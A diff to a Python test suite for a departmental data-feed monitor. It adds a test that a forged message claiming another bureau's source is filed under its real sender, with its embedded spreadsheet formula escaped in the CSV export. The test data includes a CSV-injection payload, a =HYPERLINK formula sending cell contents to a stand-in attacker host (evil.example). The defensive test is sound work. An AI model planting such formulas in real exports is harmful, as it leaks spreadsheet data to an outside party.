@@ -2,7 +2,8 @@
 of valid and invalid messages from several departments, the figures of the
 month, each department's own rejected messages on its page with the reason
 naming the field (never another department's), the CSV download read back,
-the operators' API and the gauges."""
+the operators' API and the gauges; a message claiming another department's
+source filed under whoever sent it, its formula read back as text."""
 
 from __future__ import annotations
 
@@ -20,7 +21,7 @@ from services.alerts.service import AlertsService
 from services.feeds.health import feed_health
 from services.monitor.bootstrap import open_monitor
 from synthetic.sample import Builder
-from tests.helpers import bearer, publish, wait_for
+from tests.helpers import bearer, publish, signed, wait_for
 
 B = Builder("feeds")
 DAY = date(2026, 11, 3)
@@ -39,21 +40,31 @@ def without(message: dict, field: str) -> dict:
 @pytest.fixture
 def fed(settings):
     """Four valid and two invalid messages from three departments, through
-    the monitor and into the alerts process's followers."""
+    the monitor and into the alerts process's followers; each invalid one
+    signed by its department's account, as a dead letter needs to be filed
+    under a department."""
     bad_income = B.income("H-2", DAY, "12000", date(2026, 1, 1), date(2026, 10, 31))
     bad_income["data"]["amount_yuan"] = "12k"
     with (
         open_monitor(settings, today=lambda: DAY) as monitor,
         AlertsService(settings, clock=now) as alerts,
     ):
+        tokens = {
+            source: alerts.accounts.issue(source, Role.PUBLISHER, "test", source=source)
+            for source in ("medical-insurance", "agriculture")
+        }
         publish(
             settings,
             B.register("H-1", DAY, "yellow"),
             B.register("H-2", DAY, "blue"),
             B.illness("H-1", DAY, "30000", "20000"),
             B.illness("H-2", DAY, "8000", "6000"),
-            without(B.illness("H-1", DAY, "1000", "800"), "total_cost_yuan"),
-            bad_income,
+            signed(
+                without(B.illness("H-1", DAY, "1000", "800"), "total_cost_yuan"),
+                "medical-insurance",
+                tokens["medical-insurance"],
+            ),
+            signed(bad_income, "agriculture", tokens["agriculture"]),
         )
         wait_for(lambda: len(monitor.households.history("H-2")) == 3, what="the valid facts")
         month = month_of(now())
@@ -156,3 +167,56 @@ def test_the_monthly_figures_from_the_settings_alone(fed, settings):
     # No department's income report was stored: none is said to publish income.
     assert all(not s.publishes_income and s.stale_income_households is None for s in f.sources)
     assert feed_health(settings, "2020-01").sources[0].accepted == 0
+
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"点此查看")'
+
+
+def test_a_message_claiming_another_departments_source_is_filed_under_its_sender(settings):
+    """The attack: any producer on the events topic claims the medical
+    insurance bureau's source for a message whose extra key is a formula,
+    hoping it lands in that bureau's page and CSV and runs in Excel there."""
+    with (
+        open_monitor(settings, today=lambda: DAY) as monitor,
+        AlertsService(settings, clock=now) as alerts,
+    ):
+        tokens = {
+            s: alerts.accounts.issue(s, Role.PUBLISHER, "test", source=s)
+            for s in ("medical-insurance", "agriculture")
+        }
+        planted = {**B.illness("H-9", DAY, "100", "50"), "source": "medical-insurance"}
+        planted[HYPERLINK] = "x"  # its name becomes the rejection's field
+        forged = signed(planted, "medical-insurance", "pw_not-their-token")
+        publish(settings, signed(planted, "agriculture", tokens["agriculture"]), forged, planted)
+
+        def filed():
+            alerts.catch_up()
+            found = alerts.parts.feeds.views.rejections.search(limit=10)
+            return found.items if found.total == 3 else None
+
+        rows = wait_for(filed, timeout=90, what="the three dead letters")
+        topic = f"topic:{settings.events_topic}"
+        assert sorted(r.source for r in rows) == sorted(["agriculture", topic, topic])
+        app = alerts.web_app()
+        pages = {}
+        for source, token in tokens.items():
+            pages[source] = TestClient(app, follow_redirects=True)
+            pages[source].post("/inbox/signin", data={"token": token})
+        # Not in the bureau it claimed: neither on its page nor in its file.
+        assert "HYPERLINK" not in pages["medical-insurance"].get("/inbox/feed").text
+        r = pages["medical-insurance"].get("/inbox/feed/rejections.csv")
+        assert list(csv.reader(io.StringIO(r.content.decode("utf-8-sig")))) == [
+            ["row", "field", "reason"]
+        ]
+        # In its sender's file, as text a spreadsheet shows and does not run.
+        r = pages["agriculture"].get("/inbox/feed/rejections.csv")
+        (header, row) = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"))))
+        assert row[:2] == ["1", "'" + HYPERLINK] and not row[2].startswith(("=", "+", "-", "@"))
+        # The unsigned and the forged one are the topic's, for operators only.
+        ops = alerts.accounts.issue("ops", Role.OPERATOR, "test")
+        body = TestClient(app).get("/feeds", headers=bearer(ops)).json()
+        by = {s["source"]: s for s in body["sources"]}
+        assert by[topic]["rejected"] == 2 and by["agriculture"]["rejected"] == 1
+        assert by["medical-insurance"]["rejected"] == 0
+        assert by["medical-insurance"]["last_message_at"] is None
+        assert monitor.households.history("H-9") == []
